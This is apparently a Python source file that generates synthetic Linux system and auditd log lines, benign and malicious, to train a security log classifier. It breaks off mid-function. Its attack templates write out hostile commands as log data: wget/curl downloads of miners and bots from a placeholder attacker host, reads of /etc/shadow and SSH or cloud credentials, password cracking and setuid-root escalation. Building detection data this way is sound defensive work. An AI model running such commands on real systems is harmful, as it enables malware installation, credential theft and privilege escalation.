"""The operating system's own chatter: systemd, the kernel, auditd, package
managers, time sync, containers and orchestration.

Almost all of it is benign, and much of it sounds alarming (unit failures,
OOM kills, segfaults, I/O errors, ``denied`` from AppArmor for a known
profile, ``error`` from containerd): exactly the lines a classifier must
learn to leave alone.

Labelling decisions for auditd:

* EXECVE/SYSCALL records of a web or database service account running
  reconnaissance commands (``id``, ``whoami``, ``uname -a``, ``cat
  /etc/passwd``) or a shell: webshell (the service is executing what a
  remote user typed).
* Reads of ``/etc/shadow`` or private keys by a process that is not a
  login/PAM component: credential_access.
* ``wget``/``curl`` to ``/tmp`` or ``/dev/shm``, ``chmod +x`` there, a
  miner binary: malware_c2.
* A setuid root shell, ``chmod u+s``, capabilities changed on an
  interpreter: privilege_escalation.
* Everything else (PAM accounting, logins, cron, USER_START/END, daemon
  starts, SERVICE_START/STOP, CONFIG_CHANGE by admins): benign.
"""

from __future__ import annotations

from insyt.training.synth.core import BENIGN, Ctx, Emitter, Line

_UNITS = (
    "nginx",
    "apache2",
    "httpd",
    "php8.2-fpm",
    "postgresql@15-main",
    "mariadb",
    "docker",
    "containerd",
    "kubelet",
    "ssh",
    "cron",
    "rsyslog",
    "systemd-journald",
    "NetworkManager",
    "grafana-server",
    "prometheus-node-exporter",
    "redis-server",
    "snapd",
    "unattended-upgrades",
    "fail2ban",
    "certbot",
    "logrotate",
    "apt-daily",
    "apt-daily-upgrade",
    "man-db",
    "fstrim",
    "systemd-tmpfiles-clean",
    "e2scrub_all",
    "motd-news",
    "backup",
    "elasticsearch",
    "zabbix-agent",
    "chronyd",
    "ntp",
    "smartd",
    "cups",
    "bluetooth",
    "ModemManager",
    "gitlab-runner",
    "jenkins",
    "tomcat9",
    "mongod",
    "rabbitmq-server",
    "haproxy",
    "keepalived",
    "openvpn@server",
    "wg-quick@wg0",
    "named",
    "postfix",
    "dovecot",
)

SYSTEMD = (
    "Started {unit}.service - {desc}.",
    "Starting {unit}.service - {desc}...",
    "Stopped {unit}.service - {desc}.",
    "Stopping {unit}.service - {desc}...",
    "Reloaded {unit}.service - {desc}.",
    "{unit}.service: Deactivated successfully.",
    "{unit}.service: Consumed {float:90}s CPU time.",
    "{unit}.service: Main process exited, code=exited, status={int:1-255}/FAILURE",
    "{unit}.service: Failed with result 'exit-code'.",
    "{unit}.service: Failed with result 'timeout'.",
    "{unit}.service: Scheduled restart job, restart counter is at {int:1-90}.",
    "Failed to start {unit}.service - {desc}.",
    "{unit}.service: Start request repeated too quickly.",
    "{unit}.service: Main process exited, code=killed, status=9/KILL",
    "{unit}.service: A process of this unit has been killed by the OOM killer.",
    "{unit}.service: Watchdog timeout (limit 3min)!",
    "Started Session {int:1-9999} of User {user}.",
    "Started session-{int:1-9999}.scope - Session {int:1-9999} of User {user}.",
    "session-{int:1-9999}.scope: Deactivated successfully.",
    "Created slice user-{int:1000-1999}.slice - User Slice of UID {int:1000-1999}.",
    "Starting user@{int:1000-1999}.service - User Manager for UID {int:1000-1999}...",
    "Reached target {pick:multi-user.target - Multi-User System|timers.target - Timer Units|"
    "network-online.target - Network is Online|shutdown.target - System Shutdown}.",
    "Finished {pick:apt-daily-upgrade.service - Daily apt upgrade and clean activities|"
    "logrotate.service - Rotate log files|systemd-tmpfiles-clean.service - Cleanup of Temporary "
    "Directories|man-db.service - Daily man-db regeneration}.",
    "Startup finished in {float:9}s (kernel) + {float:60}s (userspace) = {float:70}s.",
    "Condition check resulted in {desc} being skipped.",
    "Listening on {pick:dbus|docker|snapd|systemd-journald-dev-log|uuidd}.socket - {desc}.",
    "/etc/systemd/system/{unit}.service:{int:5-30}: Unknown key name 'StartLimitIntervalSec' in "
    "section 'Service', ignoring.",
    "Configuration file /etc/systemd/system/{unit}.service is marked world-inaccessible. This "
    "has no effect as configuration data is accessible via APIs without restrictions.",
    "{unit}.timer: Adding {float:600}s random time.",
    "Journal started",
    "Runtime Journal (/run/log/journal/{hex:32}) is {int:1-90}.{int:0-9}M, max "
    "{int:100-900}.{int:0-9}M, {int:100-900}.{int:0-9}M free.",
    "Received SIGTERM from PID 1 (systemd).",
    "Mounted {pick:sys-kernel-debug.mount - Kernel Debug File System|tmp.mount - Temporary "
    "Directory /tmp|boot-efi.mount - /boot/efi}.",
)
_DESCS = (
    "A high performance web server and a reverse proxy server",
    "The Apache HTTP Server",
    "OpenBSD Secure Shell server",
    "Regular background program processing daemon",
    "Docker Application Container Engine",
    "PostgreSQL Cluster 15-main",
    "MariaDB 10.11 database server",
    "Daily apt download activities",
    "Rotate log files",
    "Certbot",
    "Nightly backup",
    "Grafana instance",
    "Fail2Ban Service",
    "Discard unused blocks on filesystems from /etc/fstab",
    "The PHP 8.2 FastCGI Process Manager",
    "Network Manager",
    "Kubernetes Kubelet",
    "Snap Daemon",
    "System Logging Service",
)

KERNEL = (
    "Out of memory: Killed process {pid} ({pick:java|mysqld|node|python3|chrome|php-fpm8.2|"
    "elasticsearch|mongod}) total-vm:{int:100000-90000000}kB, anon-rss:{int:10000-9000000}kB, "
    "file-rss:0kB, shmem-rss:0kB, UID:{int:0-1999} pgtables:{int:100-90000}kB oom_score_adj:0",
    "{pick:java|mysqld|node|php-fpm|python3} invoked oom-killer: gfp_mask=0x{hex:6}"
    "(GFP_HIGHUSER_MOVABLE|__GFP_ZERO), order=0, oom_score_adj=0",
    "oom-kill:constraint=CONSTRAINT_MEMCG,nodemask=(null),cpuset=/,mems_allowed=0,"
    "oom_memcg=/kubepods/burstable/pod{uuid},task_memcg=/kubepods/burstable/pod{uuid},"
    "task={pick:java|node|python},pid={pid},uid={int:0-65534}",
    "{pick:php-fpm8.2|node|python3|chrome|firefox|gnome-shell|Xorg|qemu-system-x86}[{pid}]: "
    "segfault at {hex:12} ip {hex:16} sp {hex:16} error {pick:4|6|14|15} in "
    "{pick:libc.so.6|libpthread.so.0|libglib-2.0.so.0.7200.4|php-fpm8.2}[{hex:12}+{hex:6}]",
    "traps: {pick:python3|node|java}[{pid}] general protection fault ip:{hex:12} sp:{hex:12} "
    "error:0 in libc.so.6[{hex:12}+{hex:6}]",
    "blk_update_request: I/O error, dev {dev}, sector {int:1000-900000000} op 0x0:(READ) flags "
    "0x0 phys_seg 1 prio class 0",
    "I/O error, dev {dev}, sector {int:1000-900000000} op 0x1:(WRITE) flags 0x800 phys_seg 1 "
    "prio class 2",
    "Buffer I/O error on dev {dev}1, logical block {int:1000-90000000}, async page read",
    "EXT4-fs error (device {dev}1): ext4_find_entry:1455: inode #{int:2-9000000}: comm "
    "{pick:nginx|rsync|find}: reading directory lblock 0",
    "EXT4-fs ({dev}1): mounted filesystem with ordered data mode. Quota mode: none.",
    "XFS ({dev}1): Mounting V5 Filesystem",
    "ata{int:1-8}.00: exception Emask 0x0 SAct 0x{hex:4} SErr 0x0 action 0x0",
    "ata{int:1-8}.00: failed command: READ FPDMA QUEUED",
    "sd {int:0-3}:0:0:0: [{dev}] tag#{int:0-31} FAILED Result: hostbyte=DID_OK "
    "driverbyte=DRIVER_OK cmd_age=0s",
    "nvme nvme0: I/O {int:1-900} QID {int:1-16} timeout, aborting",
    "mce: [Hardware Error]: Machine check events logged",
    "EDAC MC0: 1 CE memory read error on CPU_SrcID#0_Ha#0_Chan#1_DIMM#0 (channel:1 slot:0 "
    "page:0x{hex:6} offset:0x0 grain:32 syndrome:0x0)",
    "CPU{int:0-63}: Core temperature above threshold, cpu clock throttled (total events = "
    "{int:1-9999})",
    "usb {int:1-4}-{int:1-8}: new high-speed USB device number {int:2-30} using xhci_hcd",
    "usb {int:1-4}-{int:1-8}: USB disconnect, device number {int:2-30}",
    "audit: type=1400 audit({int:1500000000-1800000000}.{int:100-999}:{int:10-9999}): "
    'apparmor="DENIED" operation="open" profile="{pick:snap.firefox.firefox|'
    '/usr/sbin/cupsd|/usr/bin/evince|snap-update-ns.lxd|/usr/sbin/ntpd}" name="/proc/'
    '{int:1-9999}/{pick:mounts|cgroup|stat}" pid={pid} comm="{pick:firefox|cupsd|evince|ntpd}" '
    'requested_mask="r" denied_mask="r" fsuid={int:0-1999} ouid=0',
    "audit: type=1400 audit({int:1500000000-1800000000}.{int:100-999}:{int:10-9999}): "
    'apparmor="STATUS" operation="profile_replace" profile="unconfined" '
    'name="{pick:docker-default|lsb_release|nvidia_modprobe}" pid={pid} comm="apparmor_parser"',
    "Linux version {int:4-6}.{int:1-19}.{int:0-120}-{int:1-200}-generic (buildd@lcy02-amd64-"
    "{int:1-99}) (gcc (Ubuntu 11.4.0-1ubuntu1~22.04) 11.4.0, GNU ld (GNU Binutils for Ubuntu) "
    "2.38) #{int:1-200}-Ubuntu SMP",
    "Command line: BOOT_IMAGE=/boot/vmlinuz-{int:5-6}.{int:1-19}.0-{int:1-99}-generic "
    "root=UUID={uuid} ro quiet splash",
    "perf: interrupt took too long ({int:2500-9000} > {int:2500-9000}), lowering "
    "kernel.perf_event_max_sample_rate to {int:10000-90000}",
    "watchdog: BUG: soft lockup - CPU#{int:0-63} stuck for {int:22-90}s! [{pick:kworker/u16:2|"
    "java|qemu-kvm}:{pid}]",
    "INFO: task {pick:jbd2/sda1-8|kworker/2:1|mysqld}:{pid} blocked for more than 120 seconds.",
    "hrtimer: interrupt took {int:10000-900000} ns",
    "kvm: already loaded the other module",
    "random: crng init done",
    "NET: Registered PF_INET6 protocol family",
    "Memory cgroup out of memory: Killed process {pid} ({pick:java|node}) total-vm:"
    "{int:100000-9000000}kB, anon-rss:{int:10000-900000}kB, file-rss:{int:0-9000}kB",
    "docker0: port {int:1-9}(veth{hex:7}) entered disabled state",
    "overlayfs: upperdir is in-use as upperdir/workdir of another mount, accessing files from "
    "both mounts will result in undefined behavior.",
    "TCP: {iface}: Driver has suspect GRO implementation, TCP performance may be compromised.",
    "nouveau 0000:01:00.0: fifo: SCHED_ERROR 0a [CTXSW_TIMEOUT]",
    "i915 0000:00:02.0: [drm] *ERROR* Atomic update failure on pipe A",
    "ACPI Error: No handler for Region [EC__] (00000000{hex:8}) [EmbeddedControl] "
    "(20210730/evregion-130)",
    "RAS KERNEL INFO {int:0-9} {pick:ddr|L3|torus} {pick:errors|error} detected and corrected",
)
AUDIT_BENIGN = (
    "type=USER_ACCT msg=audit({ats}): pid={pid} uid=0 auid=4294967295 ses=4294967295 "
    'msg=\'op=PAM:accounting acct="{user}" exe="/usr/sbin/sshd" hostname={ip} addr={ip} '
    "terminal=ssh res=success'",
    "type=USER_START msg=audit({ats}): pid={pid} uid=0 auid={int:1000-1999} ses={int:1-9999} "
    'msg=\'op=PAM:session_open acct="{user}" exe="/usr/sbin/sshd" hostname={ip} addr={ip} '
    "terminal=ssh res=success'",
    "type=USER_END msg=audit({ats}): pid={pid} uid=0 auid={int:1000-1999} ses={int:1-9999} "
    'msg=\'op=PAM:session_close acct="{user}" exe="/usr/sbin/cron" hostname=? addr=? '
    "terminal=cron res=success'",
    "type=CRED_DISP msg=audit({ats}): pid={pid} uid=0 auid=0 ses={int:1-9999} msg='op=PAM:"
    'setcred grantors=pam_permit acct="root" exe="/usr/sbin/cron" hostname=? addr=? '
    "terminal=cron res=success'",
    "type=USER_LOGIN msg=audit({ats}): pid={pid} uid=0 auid={int:1000-1999} ses={int:1-9999} "
    'msg=\'op=login id={int:1000-1999} exe="/usr/sbin/sshd" hostname=? addr={ip} '
    "terminal=/dev/pts/{int:0-9} res=success'",
    "type=SERVICE_START msg=audit({ats}): pid=1 uid=0 auid=4294967295 ses=4294967295 "
    'msg=\'unit={unit} comm="systemd" exe="/usr/lib/systemd/systemd" hostname=? addr=? '
    "terminal=? res={pick:success|success|failed}'",
    "type=SERVICE_STOP msg=audit({ats}): pid=1 uid=0 auid=4294967295 ses=4294967295 "
    'msg=\'unit={unit} comm="systemd" exe="/usr/lib/systemd/systemd" hostname=? addr=? '
    "terminal=? res=success'",
    "type=DAEMON_START msg=audit({ats}): op=start ver=3.{int:0-1}.{int:0-9} format=enriched "
    "kernel=5.{int:4-19}.0-{int:10-99}-generic auid=4294967295 pid={pid} uid=0 ses=4294967295 "
    "res=success",
    "type=CONFIG_CHANGE msg=audit({ats}): auid={int:1000-1999} ses={int:1-99} op=add_rule "
    'key="{pick:identity|time-change|logins|perm_mod}" list=4 res=1',
    'type=EXECVE msg=audit({ats}): argc={int:2-4} a0="{pick:/usr/bin/apt|systemctl|git|ls|'
    'rsync|python3}" a1="{pick:status|pull|-la|update|manage.py}"',
    "type=SYSCALL msg=audit({ats}): arch=c000003e syscall=59 success=yes exit=0 a0={hex:12} "
    "a1={hex:12} a2={hex:12} a3=0 items=2 ppid={pid} pid={pid2} auid={int:1000-1999} uid=0 "
    "gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts{int:0-9} ses={int:1-99} "
    'comm="{pick:apt|systemctl|dpkg}" exe="/usr/bin/{pick:apt|systemctl|dpkg}" '
    'key="{pick:rootcmd|exec|admin}"',
    "type=PROCTITLE msg=audit({ats}): proctitle=2F7573722F62696E2F{hex:20}",
    'type=CWD msg=audit({ats}): cwd="/home/{user}"',
    "type=ANOM_ABEND msg=audit({ats}): auid={int:1000-1999} uid={int:1000-1999} gid="
    '{int:1000-1999} ses={int:1-99} pid={pid} comm="{pick:chrome|python3|gnome-shell}" '
    'exe="/usr/bin/{pick:chrome|python3|gnome-shell}" sig=11 res=1',
    "type=USER_AUTH msg=audit({ats}): pid={pid} uid=0 auid={int:1000-1999} ses={int:1-99} "
    'msg=\'op=PAM:authentication grantors=pam_unix acct="root" exe="/usr/bin/sudo" '
    "hostname=? addr=? terminal=/dev/pts/{int:0-9} res=success'",
    "type=AVC msg=audit({ats}): avc:  denied  { {pick:read|write|getattr|name_connect} } for  "
    'pid={pid} comm="{pick:httpd|nginx|postfix|smbd}" name="{word}" dev="{dev}1" '
    "ino={int:1000-9000000} scontext=system_u:system_r:{pick:httpd_t|postfix_t|smbd_t}:s0 "
    "tcontext=unconfined_u:object_r:user_home_t:s0 tclass={pick:file|dir|tcp_socket} "
    "permissive=0",
)
AUDIT_ATTACK = (
    (
        "brute_force",
        "type=USER_AUTH msg=audit({ats}): pid={pid} uid=0 auid=4294967295 ses=4294967295 "
        "{subj}msg='op={pick:password|PAM:authentication|pubkey|PAM:bad_ident} {pick:grantors=? |}"
        'acct="{baduser}" exe="/usr/sbin/sshd" hostname={pick:?|{ip}} addr={ip} '
        "terminal=ssh res=failed'",
        "",
    ),
    (
        "brute_force",
        "type=USER_LOGIN msg=audit({ats}): pid={pid} uid=0 auid=4294967295 ses=4294967295 "
        '{subj}msg=\'op=login acct="{pick:(unknown)|{baduser}|28696E76616C6964207573657229}" '
        'exe="/usr/sbin/sshd" hostname=? addr={ip} terminal={pick:ssh|sshd} res=failed\'',
        "",
    ),
    (
        "brute_force",
        "type=USER_ACCT msg=audit({ats}): pid={pid} uid=0 auid=4294967295 ses=4294967295 "
        '{subj}msg=\'op=PAM:accounting grantors=? acct="{baduser}" exe="/usr/sbin/sshd" '
        "hostname={ip} addr={ip} terminal=ssh res=failed'",
        "",
    ),
    (
        "brute_force",
        "type=ANOM_LOGIN_FAILURES msg=audit({ats}): pid={pid} uid=0 auid=4294967295 "
        'ses=4294967295 msg=\'op=login_failures acct="{baduser}" exe="/usr/sbin/sshd" '
        "hostname=? addr={ip} terminal=ssh res=success'",
        "",
    ),
    (
        "network_scan",
        "type=USER_ERR msg=audit({ats}): pid={pid} uid=0 auid=4294967295 ses=4294967295 "
        '{subj}msg=\'op=PAM:bad_ident grantors=? acct="?" exe="/usr/sbin/sshd" '
        "hostname={ip} addr={ip} terminal=ssh res=failed'",
        "",
    ),
    (
        "webshell",
        'type=EXECVE msg=audit({ats}): argc={int:1-3} a0="{pick:id|whoami|uname|'
        'hostname|ifconfig|ls}"{pick:| a1="-a"| a1="-la"}',
        "{svc}",
    ),
    (
        "webshell",
        "type=SYSCALL msg=audit({ats}): arch=c000003e syscall=59 success=yes exit=0 "
        "a0={hex:12} a1={hex:12} a2={hex:12} a3=0 items=2 ppid={pid} pid={pid2} "
        "auid=4294967295 uid={svcuid} gid={svcuid} euid={svcuid} suid={svcuid} "
        "fsuid={svcuid} egid={svcuid} sgid={svcuid} fsgid={svcuid} tty=(none) "
        'ses=4294967295 comm="{pick:sh|bash|dash}" exe="/usr/bin/{pick:dash|bash}" '
        'key="{pick:webshell|www-exec|susp_shell}"',
        "{svc}",
    ),
    (
        "webshell",
        'type=EXECVE msg=audit({ats}): argc=3 a0="sh" a1="-c" a2="{pick:id|whoami|'
        'uname -a|cat /etc/passwd|ls -la /var/www|ps aux}"',
        "{svc}",
    ),
    (
        "credential_access",
        'type=PATH msg=audit({ats}): item=0 name="/etc/shadow" inode='
        "{int:1000-900000} dev=fd:01 mode=0100640 ouid=0 ogid=42 rdev=00:00 "
        "nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0",
        "",
    ),
    (
        "credential_access",
        "type=SYSCALL msg=audit({ats}): arch=c000003e syscall=257 success=yes "
        "exit=3 a0=ffffff9c a1={hex:12} a2=0 a3=0 items=1 ppid={pid} pid={pid2} "
        'auid={int:33-1999} uid=0 gid=0 euid=0 comm="{pick:cat|cp|python3|'
        'base64|tar|less}" exe="/usr/bin/{pick:cat|cp|python3.10|base64|tar}" '
        'key="{pick:shadow|identity|creds}"',
        "",
    ),
    (
        "credential_access",
        'type=EXECVE msg=audit({ats}): argc=3 a0="{pick:john|hashcat|'
        'unshadow}" a1="{pick:--wordlist=rockyou.txt|-m1800|/etc/passwd}" '
        'a2="{pick:/tmp/hashes|/etc/shadow|shadow.txt}"',
        "",
    ),
    (
        "credential_access",
        'type=EXECVE msg=audit({ats}): argc=2 a0="cat" a1="/home/{person}/'
        "{pick:.ssh/id_rsa|.aws/credentials|.pgpass|.docker/config.json|"
        '.kube/config}"',
        "",
    ),
    (
        "malware_c2",
        'type=EXECVE msg=audit({ats}): argc={int:3-5} a0="{pick:wget|curl}" '
        'a1="{pick:-q|-s|-O}" '
        'a2="http://{evil}/{pick:x|kinsing|xmrig|bot.sh|a.out}"',
        "",
    ),
    (
        "malware_c2",
        'type=EXECVE msg=audit({ats}): argc=3 a0="chmod" a1="+x" a2="/tmp/'
        '{pick:.x|kdevtmpfsi|xmrig|.sshd|dbused}"',
        "",
    ),
    (
        "malware_c2",
        'type=EXECVE msg=audit({ats}): argc=5 a0="/dev/shm/.{word}" a1="-o" '
        'a2="{pick:pool.minexmr.com|xmr-eu1.nanopool.org|pool.supportxmr.com}:'
        '{pick:4444|3333|443}" a3="-u" a4="4{hex:40}"',
        "",
    ),
    (
        "privilege_escalation",
        'type=EXECVE msg=audit({ats}): argc=3 a0="chmod" a1="{pick:u+s|'
        '4755}" a2="/{pick:bin/bash|tmp/.sh|bin/dash|usr/bin/find}"',
        "",
    ),
    (
        "privilege_escalation",
        "type=SYSCALL msg=audit({ats}): arch=c000003e syscall=105 "
        "success=yes exit=0 a0=0 a1=0 a2=0 a3=0 items=0 ppid={pid} "
        "pid={pid2} auid={svcuid} uid=0 gid={svcuid} euid=0 suid=0 "
        'comm="{pick:exploit|pwn|dirtypipe|a.out|cve}" '
        'exe="/tmp/{pick:exploit|pwn|dirtypipe|a.out}" key="setuid"',
        "",
    ),
    (
        "privilege_escalation",
        'type=EXECVE msg=audit({ats}): argc=3 a0="setcap" a1="cap_setuid+ep" a2="/usr/bin/python3"',
        "",
    ),
    (
        "privilege_escalation",
        "type=USER_CMD msg=audit({ats}): pid={pid} uid={svcuid} "
        'auid=4294967295 ses=4294967295 msg=\'cwd="/var/www/html" '
        'cmd="/bin/bash" exe="/usr/bin/sudo" terminal=? res=success\'',
        "",
    ),
)
_SVC_UIDS = (
    ("www-data", "33"),
    ("apache", "48"),
    ("nginx", "101"),
    ("tomcat", "91"),
    ("postgres", "26"),
    ("mysql", "27"),
    ("nobody", "65534"),
    ("jenkins", "112"),
)

PACKAGES = (
    ("dpkg", "status installed {pkg}:amd64 {ver}"),
    ("dpkg", "upgrade {pkg}:amd64 {ver} {ver2}"),
    ("apt", "Unpacking {pkg} ({ver}) over ({ver2}) ..."),
    ("unattended-upgrade", "Packages that will be upgraded: {pkg} {pkg2} {pkg3}"),
    ("unattended-upgrade", "All upgrades installed"),
    ("yum", "Updated: {pkg}-{ver}.el{int:7-9}.x86_64"),
    ("dnf", "Installed: {pkg}-{ver}.fc{int:36-40}.x86_64"),
    ("packagekitd", "daemon quit"),
    (
        "snapd",
        "storehelpers.go:{int:700-900}: cannot refresh: snap has no updates available: "
        '"core20", "lxd"',
    ),
    ("certbot", "Renewing an existing certificate for {fqdn}"),
    (
        "certbot",
        "Congratulations, all renewals succeeded: /etc/letsencrypt/live/{fqdn}/"
        "fullchain.pem (success)",
    ),
    (
        "chronyd",
        "Selected source {pubip} ({pick:0|1|2|3}.{pick:pool|debian.pool|ubuntu.pool}.ntp.org)",
    ),
    ("chronyd", "System clock wrong by {float:2} seconds, adjustment started"),
    ("ntpd", "synchronized to {pubip}, stratum {int:1-3}"),
    ("ntpd", "kernel reports TIME_ERROR: 0x41: Clock Unsynchronized"),
    ("systemd-timesyncd", "Initial synchronization to time server {pubip}:123 (ntp.ubuntu.com)."),
    (
        "rsyslogd",
        '[origin software="rsyslogd" swVersion="8.{int:2000-2400}.0" '
        'x-pid="{pid}" x-info="https://www.rsyslog.com"] rsyslogd was HUPed',
    ),
    (
        "rsyslogd",
        "imjournal: journal files changed, reloading...  [v8.2112.0 try "
        "https://www.rsyslog.com/e/0 ]",
    ),
    ("logrotate", "ALERT exited abnormally with [1]"),
    (
        "smartd",
        "Device: /dev/{dev} [SAT], SMART Usage Attribute: 194 Temperature_Celsius "
        "changed from {int:30-45} to {int:30-45}",
    ),
    ("smartd", "Device: /dev/{dev} [SAT], 8 Currently unreadable (pending) sectors"),
    (
        "NetworkManager",
        "<info>  [{int:1500000000-1800000000}.{int:1000-9999}] device ({iface}): "
        "state change: {pick:activated -> deactivating|config -> ip-config|"
        "ip-check -> secondaries} (reason "
        "'{pick:none|user-requested|carrier-changed}', "
        "sys-iface-state: 'managed')",
    ),
    (
        "NetworkManager",
        "<warn>  [{int:1500000000-1800000000}.{int:1000-9999}] dhcp4 ({iface}): request timed out",
    ),
    ("dhclient", "DHCPREQUEST for {privip} on {iface} to {privip2} port 67"),
    ("dhclient", "bound to {privip} -- renewal in {int:300-43200} seconds."),
    ("avahi-daemon", "Registering new address record for {privip} on {iface}.IPv4."),
    (
        "dbus-daemon",
        "[system] Activating via systemd: service name='org.freedesktop.hostname1' "
        "unit='dbus-org.freedesktop.hostname1.service' requested by ':1.{int:10-999}' "
        '(uid=0 pid={pid} comm="hostnamectl" label="unconfined")',
    ),
    ("fail2ban.actions", "[{pick:sshd|postfix-sasl|nginx-http-auth}] Unban {ip}"),
    ("fail2ban.filter", "[{pick:sshd|dovecot|recidive}] Ignore {privip} by ip"),
    (
        "backup",
        "Backup of /var/www completed: {int:100-90000} files, {float:90} GiB, {int:10-3600}s",
    ),
    ("restic", "snapshot {hex:8} saved"),
    (
        "borg",
        "Archive {srv}-{int:2015-2025}-{int:10-12}-{int:10-28} created, "
        "{int:1-900}.{int:0-9} GB deduplicated",
    ),
    (
        "zabbix_agentd",
        "active check configuration update from [{privip}:10051] started to fail "
        "(cannot connect to [[{privip}]:10051]: [111] Connection refused)",
    ),
    (
        "node_exporter",
        "ts={isots} caller=node_exporter.go:{int:100-200} level=info "
        'msg="Listening on" address=[::]:9100',
    ),
)
_PKGS = (
    "openssl",
    "libssl3",
    "linux-image-generic",
    "nginx",
    "curl",
    "libcurl4",
    "openssh-server",
    "python3.11",
    "tzdata",
    "systemd",
    "sudo",
    "bash",
    "vim",
    "git",
    "docker-ce",
    "containerd.io",
    "libc6",
    "postgresql-15",
    "php8.2-fpm",
    "firefox",
    "snapd",
    "libxml2",
)

# Older distributions' syslog (sysklogd era) and local-console authentication: a user at
# the keyboard mistyping a password has no rhost and is not an attack.
LEGACY = (
    ("login", "ROOT LOGIN ON tty{int:1-6}"),
    ("login", "LOGIN ON tty{int:1-6} BY {person}"),
    ("ftpd", "ANONYMOUS FTP LOGIN FROM {ip},  (anonymous)"),
    ("gpm", "imps2: Auto-detected intellimouse PS/2"),
    ("kernel", "PCI: Invalid ACPI-PCI IRQ routing table"),
    ("kernel", "ACPI: Subsystem revision {int:20040000-20250000}"),
    (
        "kernel",
        "Memory: {int:100000-4000000}k/{int:100000-4000000}k available ({int:1000-4000}k "
        "kernel code, {int:1000-90000}k reserved)",
    ),
    ("syslogd 1.4.1", "restart."),
    ("klogd", "klogd 1.4.1, log source = /proc/kmsg started."),
    ("cups", "cupsd {pick:startup|shutdown} succeeded"),
    ("bluetooth", "hcid startup succeeded"),
    ("irqbalance", "irqbalance startup succeeded"),
    ("rpc.statd", "Version 1.0.{int:1-9} Starting"),
    ("logrotate", "ALERT exited abnormally with [1]"),
    (
        "gdm(pam_unix)",
        "authentication failure; logname= uid=0 euid=0 tty=:0 ruser= rhost=  user={person}",
    ),
    ("gdm(pam_unix)", "check pass; user unknown"),
    (
        "gdm-password",
        "pam_unix(gdm-password:auth): authentication failure; logname= uid=0 euid=0 "
        "tty=/dev/tty1 ruser= rhost=  user={person}",
    ),
    (
        "xscreensaver(pam_unix)",
        "authentication failure; logname= uid={int:500-1999} "
        "euid={int:500-1999} tty=:0.0 ruser= rhost=  user={person}",
    ),
    ("login(pam_unix)", "check pass; user unknown"),
    ("login", "FAILED LOGIN 1 FROM (null) FOR {person}, Authentication failure"),
    (
        "su(pam_unix)",
        "authentication failure; logname={person} uid={int:500-1999} euid=0 tty= "
        "ruser={person} rhost=  user=root",
    ),
    ("su(pam_unix)", "session opened for user {svcuser} by (uid=0)"),
    (
        "sudo",
        "{person} : 1 incorrect password attempt ; TTY=pts/{int:0-9} ; PWD=/home/{person} "
        "; USER=root ; COMMAND=/usr/bin/apt update",
    ),
    (
        "kscreenlocker_greet",
        "pam_unix(kde:auth): authentication failure; logname= uid={int:1000-1999} "
        "euid={int:1000-1999} tty=:0 ruser= rhost=  user={person}",
    ),
    ("named", "notify question section contains no SOA"),
    ("hcid", "Bluetooth HCI daemon"),
    ("sdpd", "sdpd v1.5 started"),
    ("crond(pam_unix)", "session closed for user root"),
    ("xinetd", "xinetd Version 2.3.13 started with libwrap loadavg options compiled in."),
    ("network", "Bringing up interface eth0:  succeeded"),
)
CONTAINERS = (
    (
        "dockerd",
        'time="{isots}" level=info msg="ignoring event" container={hex:64} '
        "module=libcontainerd namespace=moby topic=/tasks/delete "
        'type="*events.TaskDelete"',
    ),
    (
        "dockerd",
        'time="{isots}" level=warning msg="Error getting v2 registry: Get '
        '\\"https://registry-1.docker.io/v2/\\": net/http: request canceled while '
        'waiting for connection"',
    ),
    (
        "dockerd",
        'time="{isots}" level=error msg="Handler for POST /v1.{int:40-45}/containers/'
        '{hex:12}/stop returned error: No such container: {hex:12}"',
    ),
    (
        "containerd",
        'time="{isots}" level=info msg="shim disconnected" id={hex:64} namespace=k8s.io',
    ),
    (
        "containerd",
        'time="{isots}" level=info msg="StartContainer for \\"{hex:64}\\" returns successfully"',
    ),
    (
        "containerd",
        'time="{isots}" level=error msg="ContainerStatus for \\"{hex:64}\\" '
        'failed" error="rpc error: code = NotFound desc = an error occurred when try '
        'to find container"',
    ),
    (
        "kubelet",
        "I{mmdd} {hms}.{int:100000-999999} {int:1000-9999} kubelet.go:"
        '{int:1000-3000}] "SyncLoop (PLEG): event for pod" pod="{pick:default|'
        'kube-system|monitoring}/{word}-{hex:10}-{hex:5}" event=&{ID:{uuid} '
        "Type:ContainerStarted}",
    ),
    (
        "kubelet",
        "E{mmdd} {hms}.{int:100000-999999} {int:1000-9999} pod_workers.go:"
        '{int:900-1300}] "Error syncing pod, skipping" err="failed to \\"StartContainer'
        '\\" for \\"{word}\\" with CrashLoopBackOff: \\"back-off 5m0s restarting '
        "failed "
        'container={word} pod={word}-{hex:10}-{hex:5}_default({uuid})\\""',
    ),
    (
        "kubelet",
        "W{mmdd} {hms}.{int:100000-999999} {int:1000-9999} prober.go:"
        '{int:100-200}] "Readiness probe failed" probeType="Readiness" '
        'pod="default/{word}-{hex:10}-{hex:5}" output="Get \\"http://{privip}:8080/'
        'healthz\\": dial tcp {privip}:8080: connect: connection refused"',
    ),
    (
        "kubelet",
        "I{mmdd} {hms}.{int:100000-999999} {int:1000-9999} "
        'reconciler_common.go:{int:100-300}] "operationExecutor.MountVolume started for '
        'volume \\"kube-api-access-{hex:5}\\""',
    ),
    (
        "k3s",
        'time="{isots}" level=info msg="Connecting to proxy" url="wss://{privip}:6443/'
        'v1-k3s/connect"',
    ),
    (
        "kube-apiserver",
        "I{mmdd} {hms}.{int:100000-999999} 1 trace.go:{int:100-250}] "
        'Trace[{int:100000-999999}]: "List" url:/api/v1/namespaces/default/pods,'
        "user-agent:kubectl/v1.{int:20-30}.0 (linux/amd64),audit-id:{uuid} "
        "(total time: {int:500-3000}ms)",
    ),
    (
        "etcd",
        '{"level":"warn","ts":"{isots}","caller":"etcdserver/util.go:170",'
        '"msg":"apply request took too long","took":"{int:100-900}.{int:1000-9999}ms",'
        '"expected-duration":"100ms"}',
    ),
)


def _bind_time(c: Ctx) -> dict[str, str]:
    when = c.when
    return {
        "subj": "" if c.chance(0.6) else "subj=system_u:system_r:sshd_t:s0-s0:c0.c1023 ",
        "ats": f"{int(when.timestamp())}.{when.microsecond // 1000:03d}:"
        + str(c.rng.randint(10, 999999)),
        "isots": f"{when:%Y-%m-%dT%H:%M:%S}.{when.microsecond:06d}{when:%z}"[:-2] + ":00"
        if c.chance(0.5)
        else f"{when:%Y-%m-%dT%H:%M:%S}.{when.microsecond // 1000:03d}Z",
        "hms": f"{when:%H:%M:%S}",
